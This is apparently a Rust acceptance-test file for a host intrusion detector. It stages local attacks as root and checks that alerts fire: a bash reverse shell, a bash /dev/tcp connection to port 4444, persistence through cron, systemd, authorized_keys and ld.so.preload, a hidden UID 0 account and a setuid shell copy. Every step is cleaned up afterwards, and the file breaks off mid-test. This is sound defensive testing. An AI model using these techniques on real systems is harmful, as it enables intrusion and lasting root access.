//! Issue 7 acceptance: process, persistence and file-integrity detection
//! proven with real attacks on this machine, through a real `ward-server`
//! and `ward-agent` (process connector, fanotify, the alerts API), each
//! undone afterwards (guards restore files, remove accounts and packages,
//! also when a test fails). Everything created is named `ward-e2e…`.
//!
//! Needs root. Build first: `cargo build --bins`. The tests change the real
//! system, so they run one at a time (a lock).

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use serde_json::Value;
use ward_e2e::host::{
    alert_of, build_deb, evidence, must, DirGuard, FileGuard, Lab, PackageGuard, UserGuard,
};
use ward_e2e::run;

/// The tests change the real system and count alerts: one at a time.
static SYSTEM: Mutex<()> = Mutex::new(());

fn lock() -> std::sync::MutexGuard<'static, ()> {
    SYSTEM.lock().unwrap_or_else(|e| e.into_inner())
}

fn rule(a: &Value) -> String {
    alert_of(a)["rule_id"].as_str().unwrap_or("").to_string()
}

fn summary(alerts: &[Value]) -> Vec<String> {
    alerts
        .iter()
        .map(|a| {
            let al = alert_of(a);
            let ev: Vec<String> = evidence(a)
                .iter()
                .map(|e| {
                    format!(
                        "{} {} {} pid {}",
                        e["kind"].as_str().unwrap_or(""),
                        e["path"].as_str().or(e["exe"].as_str()).unwrap_or(""),
                        e["cmdline"].as_str().unwrap_or(""),
                        e["pid"]
                    )
                })
                .collect();
            format!("{} {} [{}]", al["rule_id"], al["technique"], ev.join("; "))
        })
        .collect()
}

// --- reverse shell --------------------------------------------------------

#[test]
fn a_reverse_shell_raises_an_urgent_alert_with_its_process_chain_within_2s() {
    let _g = lock();
    let lab = Lab::start("");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    let sock = TcpStream::connect(("127.0.0.1", port)).expect("connect");
    let (mut attacker, _) = listener.accept().expect("accept");
    let fd: OwnedFd = sock.into();
    let t0 = Instant::now();
    // Killed on drop when the test fails before the shell exits.
    let mut shell = KillOnDrop(
        Command::new("/bin/bash")
            .arg("-i")
            .env("PS1", "ward-e2e$ ")
            .stdin(Stdio::from(fd.try_clone().expect("dup")))
            .stdout(Stdio::from(fd.try_clone().expect("dup")))
            .stderr(Stdio::from(fd))
            .spawn()
            .expect("bash -i"),
    );
    let pid = shell.0.id();
    // Used as an attacker would: a command over the connection, its output back.
    attacker
        .write_all(b"echo ward-e2e-$((6*7))\n")
        .expect("send");
    attacker
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    let mut seen = Vec::new();
    let mut buf = [0u8; 4096];
    while !String::from_utf8_lossy(&seen).contains("ward-e2e-42") {
        let n = attacker.read(&mut buf).expect("shell output");
        assert!(
            n > 0,
            "the shell hung up: {}",
            String::from_utf8_lossy(&seen)
        );
        seen.extend_from_slice(&buf[..n]);
    }
    // The alert, visible through the API.
    let alert = loop {
        let listed = lab.server.api_get(&format!(
            "/api/v1/alerts?limit=100&asset={}&rule=ward-proc-001",
            lab.id
        ));
        let found = listed["items"]
            .as_array()
            .into_iter()
            .flatten()
            .find_map(|a| {
                let d = lab.alert(a["id"].as_i64().unwrap_or(0));
                evidence(&d).iter().any(|e| e["pid"] == pid).then_some(d)
            });
        if let Some(a) = found {
            break a;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(10),
            "no reverse-shell alert: {:?}",
            summary(&lab.alerts())
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    let latency = t0.elapsed();
    let al = alert_of(&alert);
    assert_eq!(al["severity"], "urgent");
    assert_eq!(al["technique"], "T1059.004");
    assert_eq!(al["author"], "Ward");
    let ev = evidence(&alert);
    let e = ev
        .iter()
        .find(|e| e["pid"] == pid)
        .expect("the shell's event");
    assert_eq!(e["exe"], "/usr/bin/bash");
    assert_eq!(e["stdin"]["kind"], "tcp");
    assert_eq!(e["stdin"]["remote"], format!("127.0.0.1:{port}"));
    assert_eq!(e["stdout"]["kind"], "tcp");
    // The process chain: this test started the shell.
    let chain = e["ancestors"].as_array().expect("ancestors");
    assert_eq!(chain[0]["pid"], std::process::id());
    assert_eq!(
        chain[0]["exe"],
        std::env::current_exe().expect("exe").display().to_string()
    );
    assert!(chain.len() >= 2, "{chain:?}");
    assert!(
        latency < Duration::from_secs(2),
        "alert visible after {latency:?} (must be under 2 s)"
    );
    eprintln!(
        "reverse shell alert visible through the API after {latency:?} (created at {})",
        al["created_at"]
    );
    for a in summary(
        &lab.alerts()
            .iter()
            .map(|a| lab.alert(a["id"].as_i64().unwrap_or(0)))
            .collect::<Vec<_>>(),
    ) {
        eprintln!("ALERT {a}");
    }
    attacker.write_all(b"exit\n").expect("exit");
    let _ = shell.0.wait();
}

// --- persistence ----------------------------------------------------------

/// One technique: `act` does it, the lab must then hold exactly one alert
/// whose evidence names `path` (or, for accounts, the user), of `rule_id`
/// with `technique`.
fn expect_one(lab: &Lab, what: &str, rule_id: &str, technique: &str, f: impl Fn(&Value) -> bool) {
    let alerts = lab.wait_alerts(
        what,
        Duration::from_secs(15),
        Duration::from_millis(1500),
        f,
    );
    assert_eq!(
        alerts.len(),
        1,
        "{what}: exactly one alert, got {:?}",
        summary(&alerts)
    );
    let al = alert_of(&alerts[0]);
    assert_eq!(al["rule_id"], rule_id, "{what}: {:?}", summary(&alerts));
    assert_eq!(al["technique"], technique, "{what}");
}

fn path_is(p: &'static str) -> impl Fn(&Value) -> bool + Copy {
    move |e: &Value| e["path"] == p
}

/// The C library this process maps: preloading it again is harmless.
fn libc_path() -> String {
    let maps = std::fs::read_to_string("/proc/self/maps").expect("maps");
    maps.lines()
        .filter_map(|l| l.split_whitespace().nth(5))
        .find(|p| p.contains("/libc.so") || p.contains("/libc-"))
        .expect("libc mapped")
        .to_string()
}

#[test]
fn each_persistence_technique_raises_exactly_one_alert_with_its_technique() {
    let _g = lock();
    let lab = Lab::start("");
    let pid = std::process::id();

    // Cron.
    let cron = Box::leak(format!("/etc/cron.d/ward-e2e-{pid}").into_boxed_str());
    let mut g = FileGuard::new(&*cron);
    std::fs::write(&*cron, "# ward-e2e test job\n* * * * * root /bin/true\n").expect("cron");
    expect_one(
        &lab,
        "cron file",
        "ward-persist-001",
        "T1053.003",
        path_is(cron),
    );
    g.restore();

    // A systemd unit.
    let unit = Box::leak(format!("/etc/systemd/system/ward-e2e-{pid}.service").into_boxed_str());
    let mut g = FileGuard::new(&*unit);
    std::fs::write(
        &*unit,
        "[Unit]\nDescription=ward-e2e test unit\n[Service]\nExecStart=/bin/true\n",
    )
    .expect("unit");
    expect_one(
        &lab,
        "systemd unit",
        "ward-persist-002",
        "T1543.002",
        path_is(unit),
    );
    g.restore();

    // An authorized_keys append (a /root/.ssh made here is removed after).
    let _ssh_dir = DirGuard::create("/root/.ssh");
    let keys = "/root/.ssh/authorized_keys";
    let mut g = FileGuard::new(keys);
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .create(true)
        .open(keys)
        .expect("authorized_keys");
    writeln!(
        f,
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHdhcmQtZTJlLXRlc3Qta2V5LW5vdC1yZWFs ward-e2e-{pid}"
    )
    .expect("append");
    drop(f);
    expect_one(
        &lab,
        "authorized_keys append",
        "ward-persist-006",
        "T1098.004",
        path_is(keys),
    );
    g.restore();

    // An /etc/ld.so.preload entry: the C library itself (already loaded by
    // every program, so harmless), removed as soon as the alert is seen.
    let preload = "/etc/ld.so.preload";
    let mut g = FileGuard::new(preload);
    let mut text = std::fs::read_to_string(preload).unwrap_or_default();
    text.push_str(&format!("{}\n", libc_path()));
    std::fs::write(preload, text).expect("ld.so.preload");
    let alerts = lab.wait_alerts(
        "ld.so.preload entry",
        Duration::from_secs(15),
        Duration::ZERO,
        path_is(preload),
    );
    g.restore();
    drop(g);
    std::thread::sleep(Duration::from_millis(1500));
    let alerts_after = lab.alerts_where(path_is(preload));
    assert_eq!(alerts_after.len(), 1, "{:?}", summary(&alerts_after));
    assert_eq!(rule(&alerts[0]), "ward-persist-007");
    assert_eq!(alert_of(&alerts[0])["technique"], "T1574.006");
    assert_eq!(alert_of(&alerts[0])["severity"], "urgent");

    // A second UID 0 account.
    let name = format!("wardt{}", pid % 100_000);
    let _u = UserGuard { name: name.clone() };
    must(Command::new("useradd").args([
        "-o",
        "-u",
        "0",
        "-g",
        "0",
        "-M",
        "-N",
        "-d",
        "/nonexistent",
        "-s",
        "/usr/sbin/nologin",
        &name,
    ]));
    let n2: &'static str = Box::leak(name.clone().into_boxed_str());
    expect_one(
        &lab,
        "useradd -o -u 0",
        "ward-account-002",
        "T1136.001",
        move |e| e["kind"] == "account.created" && e["user"] == n2,
    );
    drop(_u);

    // A profile append.
    let profile = "/etc/profile";
    let mut g = FileGuard::new(profile);
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(profile)
        .expect("/etc/profile");
    writeln!(f, "# ward-e2e test line {pid}").expect("append");
    drop(f);
    expect_one(
        &lab,
        "profile append",
        "ward-persist-005",
        "T1546.004",
        path_is(profile),
    );
    g.restore();

    // A setuid bit on a copy of the shell.
    let suid = Box::leak(format!("/tmp/ward-e2e-sh-{pid}").into_boxed_str());
    let _g = FileGuard::new(&*suid);
    std::fs::copy("/bin/bash", &*suid).expect("copy");
    must(Command::new("chmod").args(["u+s", suid]));
    expect_one(
        &lab,
        "chmod u+s",
        "ward-persist-010",
        "T1548.001",
        path_is(suid),
    );

    // Undoing raised nothing more.
    std::thread::sleep(Duration::from_millis(1500));
    for (p, n) in [(cron as &str, 1), (unit, 1), (keys, 1), (profile, 1)] {
        let got = lab.alerts_where(move |e| e["path"] == p);
        assert_eq!(got.len(), n, "{p} after cleanup: {:?}", summary(&got));
    }
}

// --- file integrity and the package manager -------------------------------

#[test]
fn a_hand_edit_of_an_integrity_path_alerts_but_a_package_install_does_not() {
    let _g = lock();
    let lab = Lab::start("");
    let dir = tempfile::tempdir().expect("tempdir");
    let name = "ward-e2e-fim";
    let conf = "/etc/ward-e2e-fim.conf";
    let tool = "/usr/bin/ward-e2e-fim";
    let _pkg = PackageGuard { name: name.into() };
    let _files = (FileGuard::new(conf), FileGuard::new(tool));
    let v1 = build_deb(
        dir.path(),
        name,
        "1.0",
        &[
            (conf, "setting = 1\n", 0o644),
            (tool, "#!/bin/sh\necho one\n", 0o755),
        ],
    );
    let v2 = build_deb(
        dir.path(),
        name,
        "2.0",
        &[
            (conf, "setting = 2\n", 0o644),
            (tool, "#!/bin/sh\necho two\n", 0o755),
        ],
    );
    let of_pkg = |e: &Value| e["path"] == conf || e["path"] == tool;
    // Installed by the package manager: events, no alert.
    must(Command::new("dpkg").arg("-i").arg(&v1));
    std::thread::sleep(Duration::from_secs(3));
    assert!(
        lab.alerts_where(of_pkg).is_empty(),
        "{:?}",
        summary(&lab.alerts_where(of_pkg))
    );
    // By hand: an alert.
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(conf)
        .expect("conf");
    writeln!(f, "# edited by hand (ward-e2e)").expect("edit");
    drop(f);
    let alerts = lab.wait_alerts(
        "hand edit",
        Duration::from_secs(15),
        Duration::from_secs(1),
        of_pkg,
    );
    assert_eq!(alerts.len(), 1, "{:?}", summary(&alerts));
    assert_eq!(rule(&alerts[0]), "ward-fim-002");
    assert_eq!(alert_of(&alerts[0])["technique"], "T1565.001");
    let ev = evidence(&alerts[0]);
    assert_eq!(
        ev[0]["package"], name,
        "the owning package is named: {ev:?}"
    );
    // A program of the package changed by hand: urgent.
    std::fs::write(tool, "#!/bin/sh\necho replaced by hand\n").expect("edit the program");
    let tool_alerts = lab.wait_alerts(
        "hand edit of the program",
        Duration::from_secs(15),
        Duration::from_secs(1),
        |e| e["path"] == tool,
    );
    assert_eq!(tool_alerts.len(), 1, "{:?}", summary(&tool_alerts));
    assert_eq!(rule(&tool_alerts[0]), "ward-fim-001");
    assert_eq!(alert_of(&tool_alerts[0])["severity"], "urgent");
    // The same file changed by installing the package's next version (and
    // the program too): no alert; removing the package: no alert.
    must(
        Command::new("dpkg")
            .args(["-i", "--force-confnew"])
            .arg(&v2),
    );
    assert_eq!(
        std::fs::read_to_string(tool).expect("tool"),
        "#!/bin/sh\necho two\n"
    );
    // Apart from the upgrade (changes of a path within the collector's
    // settle time are one event).
    std::thread::sleep(Duration::from_millis(1500));
    must(Command::new("dpkg").args(["--purge", name]));
    std::thread::sleep(Duration::from_secs(3));
    let all = lab.alerts_where(of_pkg);
    assert_eq!(
        all.len(),
        2,
        "only the two hand edits alerted: {:?}",
        summary(&all)
    );
    // The package's changes were seen, and told apart as dpkg's.
    let events = stored_events(&lab);
    for (what, path, kind) in [
        ("the config upgraded", conf, "file.modified"),
        ("the program upgraded", tool, "file.modified"),
        ("the program purged", tool, "file.deleted"),
    ] {
        assert!(
            events.iter().any(|e| e["kind"] == kind
                && e["path"] == path
                && e["by_package"] == true
                && e["tool"] == "dpkg"),
            "{what}: no {kind} of {path} by dpkg; its events: {:?}",
            events
                .iter()
                .filter(|e| e["path"] == path)
                .collect::<Vec<_>>()
        );
    }
    let _ = Path::new(conf);
    let _ = run;
}

// --- normal work ----------------------------------------------------------

/// Whether an evidence event comes from what this test did: a process of
/// this test's tree, a file it (or its children) wrote, a test account.
fn from_this_test(e: &Value, test_user: &str) -> bool {
    let me = u64::from(std::process::id());
    let in_chain = |p: &Value| {
        p["pid"].as_u64() == Some(me)
            || p["ancestors"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x["pid"].as_u64() == Some(me)))
    };
    in_chain(e)
        || e.get("actor").is_some_and(in_chain)
        || e.get("process").is_some_and(in_chain)
        || e["path"].as_str().is_some_and(|p| p.contains("ward-e2e"))
        || e["user"] == test_user
}

/// Debian cron runs `@reboot` jobs only when this file is absent.
const CRON_REBOOT_MARKER: &str = "/run/crond.reboot";

/// Kills a child process on drop.
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn normal_work_raises_no_alert() {
    use ward_e2e::login::{ssh_login, Link, Rsyslog, Sshd, TestUser};
    use ward_e2e::netns::Host;
    let _g = lock();
    let pid = std::process::id();
    let t0 = Instant::now();
    // There before the agent: a cron job, an account, an ssh server.
    let cron_out = format!("/tmp/ward-e2e-cron-{pid}.out");
    let _out_guard = FileGuard::new(&cron_out);
    let cron_file = format!("/etc/cron.d/ward-e2e-pre-{pid}");
    let _cron_guard = FileGuard::new(&cron_file);
    // Run by cron when it starts (no waiting for a minute boundary).
    std::fs::write(
        &cron_file,
        format!("# ward-e2e test job\n@reboot root /bin/echo ward-e2e >> {cron_out}; sleep 1\n"),
    )
    .expect("cron job");
    let target = Host::create();
    let client = Host::create();
    let link = Link::between(&target, &client);
    let sshlab = tempfile::Builder::new()
        .prefix("ward-e2e-sshlab")
        .tempdir()
        .expect("tempdir");
    let syslog = Rsyslog::start(&target, sshlab.path());
    let user = TestUser::create();
    let _sshd = Sshd::start(&target, sshlab.path(), &link.addr_a, &user.name, &syslog);
    let lab = Lab::start(&format!(
        "[collect.auth]\npaths = [\"{}\"]\njournald = \"off\"\nwtmp = false\n",
        syslog.log.display()
    ));
    // The cron daemon, which runs @reboot jobs when it starts unless its
    // marker says the system started already (put back as it was).
    let _reboot_marker = FileGuard::new(CRON_REBOOT_MARKER);
    let _ = std::fs::remove_file(CRON_REBOOT_MARKER);
    let _cron = KillOnDrop(
        Command::new("cron")
            .arg("-f")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("cron (install it: scripts/install-test-deps.sh)"),
    );

    // Install and remove a Debian package with apt: a program, a
    // configuration file, a cron job and a systemd unit, as real packages have.
    let work = tempfile::tempdir().expect("tempdir");
    let name = "ward-e2e-normal";
    let _pkg = PackageGuard { name: name.into() };
    let deb = build_deb(
        work.path(),
        name,
        "1.0",
        &[
            (
                "/usr/bin/ward-e2e-normal",
                "#!/bin/sh\necho normal\n",
                0o755,
            ),
            ("/etc/ward-e2e-normal.conf", "level = 1\n", 0o644),
            (
                "/etc/cron.d/ward-e2e-normal",
                "17 3 * * * root /usr/bin/ward-e2e-normal\n",
                0o644,
            ),
            (
                "/usr/lib/systemd/system/ward-e2e-normal.service",
                "[Service]\nExecStart=/usr/bin/ward-e2e-normal\n",
                0o644,
            ),
        ],
    );
    let apt = |args: &[&str]| {
        must(
            Command::new("apt-get")
                .args(["-y", "-q", "-o", "DPkg::Lock::Timeout=120"])
                .args(args)
                .env("DEBIAN_FRONTEND", "noninteractive"),
        )
    };
    apt(&["install", &deb.display().to_string()]);
    apt(&["remove", "--purge", name]);

    // Build a small crate with cargo (offline): a build script that cargo
    // compiles and runs, a path dependency, then the program is run. Where a
    // developer builds (here under this workspace's target/tmp), not /tmp:
    // programs run from /tmp are ward-proc-009's business.
    let projects = tempfile::Builder::new()
        .prefix("ward-e2e-cargo")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .expect("project dir");
    let krate = projects.path().join("tiny");
    let dep = projects.path().join("tiny-dep");
    for (dir, files) in [
        (
            &krate,
            vec![
                (
                    "Cargo.toml",
                    "[package]\nname = \"ward-e2e-tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
                     [dependencies]\nward-e2e-tiny-dep = { path = \"../tiny-dep\" }\n\n[workspace]\n",
                ),
                (
                    "build.rs",
                    "fn main() {\n    println!(\"cargo:rustc-env=TINY_BUILT=yes\");\n}\n",
                ),
                (
                    "src/main.rs",
                    "fn main() {\n    println!(\"tiny {} {}\", env!(\"TINY_BUILT\"), ward_e2e_tiny_dep::answer());\n}\n",
                ),
            ],
        ),
        (
            &dep,
            vec![
                (
                    "Cargo.toml",
                    "[package]\nname = \"ward-e2e-tiny-dep\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
                ),
                ("src/lib.rs", "pub fn answer() -> u32 {\n    42\n}\n"),
            ],
        ),
    ] {
        for (name, text) in files {
            let p = dir.join(name);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("crate dir");
            std::fs::write(&p, text).expect("crate file");
        }
    }
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    must(
        Command::new(cargo)
            .args(["build", "--offline", "--quiet"])
            .current_dir(&krate)
            .env("CARGO_TARGET_DIR", krate.join("target"))
            .env_remove("RUSTFLAGS"),
    );
    let out = must(&mut Command::new(krate.join("target/debug/ward-e2e-tiny")));
    assert_eq!(out.trim(), "tiny yes 42");

    // Log rotation with logrotate: rename + compress + create, and copytruncate.
    let rotated = format!("/var/log/ward-e2e-rotate-{pid}.log");
    let truncated = format!("/var/log/ward-e2e-copytrunc-{pid}.log");
    let _logs: Vec<FileGuard> = [
        rotated.clone(),
        truncated.clone(),
        format!("{rotated}.1.gz"),
        format!("{rotated}.2.gz"),
        format!("{rotated}.1"),
        format!("{truncated}.1"),
    ]
    .into_iter()
    .map(FileGuard::new)
    .collect();
    let conf = work.path().join("logrotate.conf");
    std::fs::write(
        &conf,
        format!(
            "{rotated} {{\n rotate 1\n compress\n create\n missingok\n}}\n\
             {truncated} {{\n rotate 1\n copytruncate\n missingok\n}}\n"
        ),
    )
    .expect("logrotate.conf");
    for round in 0..3 {
        std::fs::write(&rotated, format!("log line {round}\n").repeat(50)).expect("log");
        std::fs::write(&truncated, format!("log line {round}\n").repeat(50)).expect("log");
        // Each write and each rotation is its own change (as on a server,
        // where rotation runs daily).
        std::thread::sleep(Duration::from_millis(400));
        must(
            Command::new("logrotate")
                .arg("-f")
                .arg("-s")
                .arg(work.path().join("logrotate.state"))
                .arg(&conf),
        );
        std::thread::sleep(Duration::from_millis(400));
    }

    // Ordinary logins over ssh.
    for _ in 0..2 {
        assert!(
            ssh_login(&client, &link.addr_a, &user.name, &user.password),
            "ssh login: {}",
            std::fs::read_to_string(sshlab.path().join("sshd.out")).unwrap_or_default()
        );
    }

    // The cron job that was there before the agent ran.
    ward_e2e::wait_for(
        "the pre-existing cron job to run",
        Duration::from_secs(20),
        || Path::new(&cron_out).exists().then_some(()),
    );
    // Everything reached the server (the login events too).
    std::thread::sleep(Duration::from_secs(3));
    let accepted = lab
        .server
        .api_get(&format!("/api/v1/alerts?limit=1&asset={}", lab.id));
    let _ = accepted;
    let all: Vec<Value> = lab
        .alerts()
        .into_iter()
        .map(|a| lab.alert(a["id"].as_i64().unwrap_or(0)))
        .collect();
    let ours: Vec<Value> = all
        .iter()
        .filter(|a| evidence(a).iter().any(|e| from_this_test(e, &user.name)))
        .cloned()
        .collect();
    let others: Vec<Value> = all
        .iter()
        .filter(|a| !evidence(a).iter().any(|e| from_this_test(e, &user.name)))
        .cloned()
        .collect();
    if !others.is_empty() {
        eprintln!(
            "alerts about other activity on this machine (not this test's work): {:?}",
            summary(&others)
        );
    }
    assert!(
        ours.is_empty(),
        "normal work raised alerts: {:?}",
        summary(&ours)
    );
    // The work was seen (the collectors were not idle), and told apart.
    let events = stored_events(&lab);
    let has = |what: &str, f: &dyn Fn(&Value) -> bool| {
        assert!(
            events.iter().any(f),
            "no event of {what} among {} events",
            events.len()
        );
    };
    has("the package's cron file, by dpkg", &|e| {
        e["path"] == "/etc/cron.d/ward-e2e-normal" && e["by_package"] == true && e["tool"] == "dpkg"
    });
    has("the package's program removed by dpkg", &|e| {
        e["kind"] == "file.deleted"
            && e["path"] == "/usr/bin/ward-e2e-normal"
            && e["by_package"] == true
    });
    has("the rotated log recreated empty by logrotate", &|e| {
        e["kind"] == "file.modified"
            && e["path"] == rotated.as_str()
            && e["truncated"] == true
            && e["tool"] == "logrotate"
    });
    has("the compressed log written by logrotate", &|e| {
        e["kind"] == "file.created"
            && e["path"] == format!("{rotated}.1.gz").as_str()
            && e["tool"] == "logrotate"
    });
    has("the copytruncate, by logrotate", &|e| {
        e["path"] == truncated.as_str() && e["truncated"] == true && e["tool"] == "logrotate"
    });
    has("the cron job's run", &|e| {
        e["kind"] == "process.exec" && e["cmdline"].as_str().is_some_and(|c| c.contains(&cron_out))
    });
    has("the build's compiler", &|e| {
        e["kind"] == "process.exec" && e["exe"].as_str().is_some_and(|x| x.ends_with("/rustc"))
    });
    has("the ssh login", &|e| {
        e["kind"] == "auth.ssh_accepted" && e["user"] == user.name.as_str()
    });
    eprintln!(
        "normal work: {} events, no alert; took {:?}",
        events.len(),
        t0.elapsed()
    );
    let _ = run;
}

/// Every event of the lab's asset, as JSON, read from the server's store
/// (SQLite in WAL mode: readable while the server runs).
fn stored_events(lab: &Lab) -> Vec<Value> {
    use ward_store::Store;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async {
        let store = ward_store_sqlite::SqliteStore::open(&lab.server.data().join("ward.db"))
            .await
            .expect("open the server's store");
        let mut out = Vec::new();
        let mut cursor = 0;
        loop {
            let page = store
                .events_after(cursor, 10_000)
                .await
                .expect("events_after");
            let Some(last) = page.last() else { break };
            cursor = last.seq;
            out.extend(
                page.into_iter()
                    .filter(|e| e.asset_id == lab.id)
                    .map(|e| serde_json::to_value(&e.event).expect("json")),
            );
        }
        out
    })
}

// --- SigmaHQ rules --------------------------------------------------------

/// The corpus of SigmaHQ Linux rules (Detection Rule License 1.1).
fn sigma_dir() -> std::path::PathBuf {
    std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpora/sigma-linux/rules/linux")
}

/// `(id, author)` of a Sigma rule file, read with a plain line scan.
fn sigma_meta(rel: &str) -> (String, String) {
    let text = std::fs::read_to_string(sigma_dir().join(rel)).expect("rule file");
    let field = |k: &str| {
        text.lines()
            .find_map(|l| l.strip_prefix(k))
            .map(|v| v.trim().to_string())
            .expect("field")
    };
    (field("id:"), field("author:"))
}

#[test]
fn sigma_linux_rules_load_and_a_sample_alerts_with_its_author() {
    use ward_e2e::netns::Host;
    let _g = lock();
    let lab = Lab::start("");
    let o = run(Command::new(ward_e2e::bin("ward-server"))
        .args(["rules", "import"])
        .arg(sigma_dir())
        .arg("--data-dir")
        .arg(lab.server.data()));
    assert!(o.status.success(), "rules import: {}", ward_e2e::stderr(&o));
    let report = ward_e2e::stdout(&o);
    // One line per rule, loaded or why not.
    let files: usize = [
        "process_creation",
        "file_event",
        "network_connection",
        "auditd",
        "builtin",
    ]
    .iter()
    .map(|d| walk_yml(&sigma_dir().join(d)))
    .sum();
    assert_eq!(
        report
            .lines()
            .filter(|l| l.starts_with("loaded") || l.starts_with("not loaded"))
            .count(),
        files
    );
    assert!(report.contains("needs auditd"), "auditd rules say why");
    // The running server picks them up; its API reports per rule.
    let rules = ward_e2e::wait_for("the imported rules", Duration::from_secs(15), || {
        let v = lab.server.api_get("/api/v1/rules?origin=imported");
        (v["items"].as_array().map_or(0, Vec::len) >= files).then_some(v)
    });
    let (mut total, mut loaded) = (0, 0);
    for cat in ["process_creation", "file_event", "network_connection"] {
        let files = walk_yml(&sigma_dir().join(cat));
        let ok = rules["items"]
            .as_array()
            .expect("items")
            .iter()
            .filter(|r| {
                r["file"]
                    .as_str()
                    .is_some_and(|f| f.starts_with(&format!("{cat}/")))
            })
            .filter(|r| r["status"] == "loaded")
            .count();
        eprintln!("{cat}: {ok} of {files} loaded");
        total += files;
        loaded += ok;
    }
    assert!(
        loaded * 10 >= total * 9,
        "only {loaded} of {total} process_creation, file_event and network_connection rules loaded"
    );

    let pid = std::process::id();
    // process_creation: base64 decoding, reading shell history.
    // (Both programs wait for their input, so they are still running when
    // the collector reads their details: a program that ends within a
    // millisecond of its start can be gone before that.)
    let mut decoder = KillOnDrop(
        Command::new("base64")
            .arg("-d")
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .expect("base64"),
    );
    std::thread::sleep(Duration::from_millis(300));
    if let Some(mut input) = decoder.0.stdin.take() {
        input.write_all(b"d2FyZC1lMmU=\n").expect("base64 input");
    }
    assert!(decoder.0.wait().expect("base64").success());
    // `cat` of a history file that is a FIFO.
    let hist_dir = tempfile::tempdir().expect("history dir");
    let hist = hist_dir.path().join(".bash_history");
    must(Command::new("mkfifo").arg(&hist));
    let mut reader = KillOnDrop(
        Command::new("cat")
            .arg(&hist)
            .stdout(Stdio::null())
            .spawn()
            .expect("cat"),
    );
    std::thread::sleep(Duration::from_millis(300));
    std::fs::write(&hist, "ls -la\n").expect("write the history FIFO");
    let _ = reader.0.wait();
    let hist_s = hist.display().to_string();
    // file_event: the Triple Cross lock file, a download to /tmp by wget.
    let _lock_guard = FileGuard::new("/tmp/rootlog");
    std::fs::write("/tmp/rootlog", "ward-e2e\n").expect("/tmp/rootlog");
    let download = format!("/tmp/ward-e2e-wget-{pid}");
    let _dl_guard = FileGuard::new(&download);
    must(Command::new("wget").args([
        "-q",
        "--no-check-certificate",
        "-O",
        &download,
        &format!("{}/healthz", lab.server.url()),
    ]));
    // network_connection: bash connecting out to port 4444 of a public
    // (TEST-NET-2) address, served by a namespace host on this machine.
    let remote = Host::create();
    let addr = format!("198.51.100.{}", pid % 250 + 1);
    remote.ip(&["addr", "add", &format!("{addr}/32"), "dev", "lo"]);
    must(Command::new("ip").args(["route", "add", &format!("{addr}/32"), "via", &remote.addr]));
    let _listener = KillOnDrop(
        remote
            .command("perl")
            .args([
                "-MIO::Socket::INET",
                "-e",
                "$s=IO::Socket::INET->new(LocalPort=>4444,Listen=>5,ReuseAddr=>1) or die; $c=$s->accept; sleep 30",
            ])
            .spawn()
            .expect("perl listener"),
    );
    std::thread::sleep(Duration::from_millis(500));
    let _conn = KillOnDrop(
        Command::new("/bin/bash")
            .args([
                "-c",
                &format!("exec 3<>/dev/tcp/{addr}/4444; sleep 20; true"),
            ])
            .spawn()
            .expect("bash"),
    );

    // Each sampled rule, the action done for it, and how its evidence is
    // recognised as that action (not merely any event the rule matches).
    let addr_s = addr.clone();
    let download_s = download.clone();
    let samples: Vec<(&str, &str, EvidenceTest)> = vec![
        (
            "process_creation/proc_creation_lnx_base64_decode.yml",
            "base64 -d",
            Box::new(|e| {
                e["kind"] == "process.exec"
                    && e["exe"].as_str().is_some_and(|x| x.ends_with("/base64"))
                    && e["cmdline"].as_str().is_some_and(|c| c.contains(" -d"))
            }),
        ),
        (
            "process_creation/proc_creation_lnx_susp_history_recon.yml",
            "cat history",
            Box::new(move |e| {
                e["kind"] == "process.exec"
                    && e["cmdline"].as_str().is_some_and(|c| c.contains(&hist_s))
            }),
        ),
        (
            "file_event/file_event_lnx_triple_cross_rootkit_lock_file.yml",
            "/tmp/rootlog",
            Box::new(|e| e["kind"] == "file.created" && e["path"] == "/tmp/rootlog"),
        ),
        (
            "file_event/file_event_lnx_wget_download_file_in_tmp_dir.yml",
            "wget to /tmp",
            Box::new(move |e| e["kind"] == "file.created" && e["path"] == download_s.as_str()),
        ),
        (
            "network_connection/net_connection_lnx_susp_malware_callback_port.yml",
            "port 4444",
            Box::new({
                let addr = addr_s.clone();
                move |e| {
                    e["kind"] == "net.connect"
                        && e["dst_ip"] == addr.as_str()
                        && e["dst_port"] == 4444
                }
            }),
        ),
        (
            "network_connection/net_connection_lnx_back_connect_shell_dev.yml",
            "bash connecting out",
            Box::new(move |e| {
                e["kind"] == "net.connect"
                    && e["dst_ip"] == addr_s.as_str()
                    && e["process"]["exe"]
                        .as_str()
                        .is_some_and(|x| x.ends_with("/bash"))
            }),
        ),
    ];
    for (rel, what, of_action) in samples {
        let (id, author) = sigma_meta(rel);
        let a = ward_e2e::wait_for(
            &format!("an alert of {rel} ({what})"),
            Duration::from_secs(15),
            || {
                let v = lab.server.api_get(&format!(
                    "/api/v1/alerts?limit=10&asset={}&rule={id}",
                    lab.id
                ));
                v["items"].as_array().and_then(|a| a.first().cloned())
            },
